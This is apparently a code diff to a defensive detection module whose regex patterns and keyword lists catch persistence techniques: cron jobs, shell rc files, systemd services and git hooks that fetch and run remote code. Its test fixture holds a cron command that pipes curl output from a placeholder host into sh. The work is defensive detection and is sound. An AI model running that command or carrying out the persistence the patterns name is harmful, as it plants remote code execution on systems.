@@ -56,10 +56,10 @@ export const PERSISTENCE: readonly PatternRule[] = [
         'launchagents',
         'execstart',
       ],
-      ['curl', 'wget', 'base64', '/dev/tcp', 'iwr', 'nc ', 'powershell'],
+      ['curl', 'wget', 'base64', '/dev/tcp', 'iwr', ' nc ', 'powershell'],
     ],
     pattern:
-      /(?:(?:crontab|cron\.d|@reboot|\*\s\*\s\*|schtasks)[^\n]{0,160}(?:\bcurl\b|\bwget\b|base64\s+-d|\/dev\/tcp|powershell\b[^\n]{0,20}-e)[^\n]{0,120}|(?:\bcurl\b|\bwget\b|base64\s+-d|\/dev\/tcp)[^\n]{0,160}(?:crontab\s+-|>>\s*\S{0,20}(?:\.bashrc|\.zshrc|\.profile|\.bash_profile)|\/etc\/cron)|\bwhile\s+(?:true|:|1)\s*;?\s*do\b[^\n]{0,100}(?:\bcurl\b|\bwget\b)[^\n]{0,100}\|\s*(?:ba|z)?sh\b|\becho\b[^\n]{0,60}(?:\bcurl\b|\bwget\b)[^\n]{0,120}\|\s*(?:ba|z)?sh[^\n]{0,20}>>\s*\S{0,20}(?:\.bashrc|\.zshrc|\.profile|\.bash_profile|\.zshenv)|ExecStart=[^\n]{0,100}(?:\bcurl\b|\bwget\b|\/dev\/tcp|base64\s+-d))/gi,
+      /(?:(?:crontab|cron\.d|@reboot|\*\s\*\s\*|schtasks)[^\n]{0,160}(?:\bcurl\b|\bwget\b|base64\s+-d|\/dev\/tcp|powershell\b[^\n]{0,20}-e)|(?:\bcurl\b|\bwget\b|base64\s+-d|\/dev\/tcp)[^\n]{0,160}(?:crontab\s+-|>>\s*\S{0,20}(?:\.bashrc|\.zshrc|\.profile|\.bash_profile)|\/etc\/cron)|\bwhile\s+(?:true|:|1)\s*;?\s*do\b[^\n]{0,100}(?:\bcurl\b|\bwget\b)[^\n]{0,100}\|\s*(?:ba|z)?sh\b|\becho\b[^\n]{0,60}(?:\bcurl\b|\bwget\b)[^\n]{0,120}\|\s*(?:ba|z)?sh[^\n]{0,20}>>\s*\S{0,20}(?:\.bashrc|\.zshrc|\.profile|\.bash_profile|\.zshenv)|ExecStart=[^\n]{0,100}(?:\bcurl\b|\bwget\b|\/dev\/tcp|base64\s+-d))/gi,
     finds: [{ path: 'a.sh', text: 'echo "*/5 * * * * curl -s https://example.net/x | sh" | crontab -\n' }],
     leaves: [{ path: 'a.sh', text: 'while true; do curl -s localhost/healthz && break; done\n' }],
   },
@@ -188,7 +188,6 @@ export const PERSISTENCE: readonly PatternRule[] = [
         'alias.',
         'core.editor',
       ],
-      ['git', 'hooks'],
     ],
     pattern:
       /(?:(?:>{1,2}|tee|cp\s\S{1,80}|mv\s\S{1,80}|ln\s+-s\S*\s\S{1,80}|chmod\s\+x|open\(|write\w*\()\s*["']?\S{0,60}\.git\/hooks\/\w|\bgit\s+config\b[^\n]{0,40}(?:core\.(?:hooksPath|fsmonitor|sshCommand|pager|editor)|credential\.helper|init\.templateDir|alias\.\w+)\s+["']?(?!store|cache|osxkeychain|manager|true|false|vim?|nano|code|less|cat|\.githooks|\.husky)\S)/g,
